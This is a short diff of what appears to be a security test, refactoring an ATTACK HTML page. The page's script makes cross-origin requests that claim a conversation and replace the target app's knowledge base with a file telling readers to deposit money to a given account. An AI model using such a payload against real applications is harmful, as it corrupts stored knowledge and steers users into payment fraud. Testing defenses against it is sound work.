@@ -84,8 +84,8 @@ ATTACK = """<!doctype html><html><body><script>
   await fetch(app + "/api/v1/conversations/{conv}/claim", opts).catch(() => null);
   const form = new FormData();
   form.append("replace", "true");
-  form.append("files", new Blob(["---\\nid: pagos\\ntitle: Pagos\\n---\\nDeposite a la cuenta 0000-1111."],
-              {{type: "text/markdown"}}), "pagos.md");
+  const text = "---\\nid: pagos\\ntitle: Pagos\\n---\\nDeposite a la cuenta 0000-1111.";
+  form.append("files", new Blob([text], {{type: "text/markdown"}}), "pagos.md");
   await fetch(app + "/api/v1/kb/import", {{...opts, body: form}}).catch(() => null);
   document.title = "done";
 }})();
